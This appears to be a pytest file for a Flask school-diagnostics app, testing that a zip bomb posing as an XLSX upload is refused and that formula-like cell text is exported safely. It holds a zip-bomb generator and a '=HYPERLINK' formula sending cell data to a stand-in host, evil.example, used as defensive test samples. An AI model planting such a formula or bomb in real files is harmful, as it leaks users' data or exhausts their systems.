"""A zip bomb under an XLSX name is refused from the archive's directory, before any sheet is
unpacked (page in Russian, CLI in English); exported cells that start like a formula are
written as text."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pytest
from flask.testing import FlaskClient
from import_support import upload_applied
from openpyxl import Workbook, load_workbook
from support import AppRunner

from app.extensions import db
from app.models import Competency, Deficit, Diagnostic, School, Teacher
from app.reports.xlsx import table_workbook
from tabular import read_table

ROW = b'<row><c t="inlineStr"><is><t>x</t></is></c></row>' * 20_000
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Школа № 1")'


@pytest.fixture(scope="module")
def bomb() -> bytes:
    """About 0.6 MB of XLSX whose sheet unpacks to 200 MB (under the 256 MB size limit:
    only the compression ratio gives it away)."""
    book = Workbook()
    book.active.append(["Код ОО", "Предмет"])
    plain = io.BytesIO()
    book.save(plain)
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(plain.getvalue())) as source, \
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for name in source.namelist():
            if name != "xl/worksheets/sheet1.xml":
                target.writestr(name, source.read(name))
                continue
            with target.open(name, "w", force_zip64=True) as sheet:
                sheet.write(b'<worksheet xmlns="http://schemas.openxmlformats.org/'
                            b'spreadsheetml/2006/main"><sheetData>')
                for _ in range(200 * 1024 * 1024 // len(ROW)):
                    sheet.write(ROW)
                sheet.write(b"</sheetData></worksheet>")
    return out.getvalue()


def test_a_zip_bomb_is_refused_by_its_compression_ratio(bomb: bytes) -> None:
    assert len(bomb) < 1024 * 1024
    table = read_table(bomb, name="results.xlsx")
    assert table.header == () and table.rows == ()
    [error] = table.errors
    assert error.message.startswith("unreadable XLSX (its part xl/worksheets/sheet1.xml is "
                                    "packed ")
    assert "MB unpack to 199.1 MB), more than 100 times); save the file again" in error.message


def test_an_ordinary_workbook_passes_the_ratio_check() -> None:
    book = Workbook()
    for n in range(20_000):
        book.active.append([f"{n:06}", "Математика", n % 7, "2026-04-15"])
    data = io.BytesIO()
    book.save(data)
    assert len(read_table(data.getvalue()).rows) == 19_999


def test_the_imports_page_refuses_the_bomb_in_russian(signed_in_client: FlaskClient,
                                                      bomb: bytes, tmp_path: Path) -> None:
    kept = tmp_path / "uploads"
    signed_in_client.application.config["PROFROUTE_UPLOADS"] = str(kept)
    answer = signed_in_client.post("/imports/results", data={
        "files": (io.BytesIO(bomb), "vpr.xlsx")}, content_type="multipart/form-data")
    assert answer.status_code == 400
    page = answer.get_data(as_text=True)
    assert "книга XLSX не прочитана: её часть xl/worksheets/sheet1.xml сжата в" in page
    assert "«zip-бомба»" in page
    assert not kept.exists() or list(kept.iterdir()) == []  # nothing kept for an import


def test_the_cli_refuses_the_bomb_in_english(runner: AppRunner, bomb: bytes,
                                             tmp_path: Path) -> None:
    path = tmp_path / "vpr.xlsx"
    path.write_bytes(bomb)
    result = runner.invoke(["import-results", str(path)])
    assert result.exit_code != 0
    assert "is packed" in result.output and "more than 100 times" in result.output


@pytest.mark.parametrize("text", ["=1+2", "+7 900", "-x", "@SUM(A1)", "\tx", "\rx", HYPERLINK])
def test_text_that_starts_like_a_formula_is_exported_as_text(text: str) -> None:
    data = table_workbook("Проверка", [text], ["Название"], [[text], [0.5], [-3]])
    sheet = load_workbook(io.BytesIO(data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    shown = [c for c in cells if c.value == text]
    assert len(shown) == 2 and all(c.data_type == "s" and c.quotePrefix for c in shown)
    assert [c.value for c in cells if c.data_type == "n"] == [0.5, -3]


def test_an_imported_school_named_like_a_formula_is_exported_as_text(
        signed_in_client: FlaskClient, tmp_path: Path) -> None:
    signed_in_client.application.config["PROFROUTE_UPLOADS"] = str(tmp_path)
    schools = f'code;name;municipality\r\n16101;"{HYPERLINK.replace(chr(34), 2 * chr(34))}";Альфа\r\n'
    status, page = upload_applied(signed_in_client, "/imports/catalogue",
                                  schools=(schools.encode(), "schools.csv"))
    assert status == 200, page
    school = db.session.query(School).filter_by(code="16101").one()
    assert school.name == HYPERLINK
    teacher = Teacher(moodle_user_id=7, school=school, lastname="Петрова")
    competency = Competency(idnumber="PK-01", group="subject")
    diagnostic = Diagnostic(moodle_quiz_id=1, moodle_course_id=9, kind="entry", name="Входная")
    db.session.add_all([teacher, competency, diagnostic])
    db.session.flush()
    db.session.add(Deficit(diagnostic_id=diagnostic.id, teacher_id=teacher.id,
                           competency_id=competency.id, score=0.2, level="deficit"))
    db.session.commit()

    answer = signed_in_client.get("/analytics/ranking.xlsx")
    assert answer.status_code == 200
    sheet = load_workbook(io.BytesIO(answer.data)).active
    [cell] = [c for row in sheet.iter_rows() for c in row if c.value == HYPERLINK]
    assert cell.data_type == "s" and cell.quotePrefix
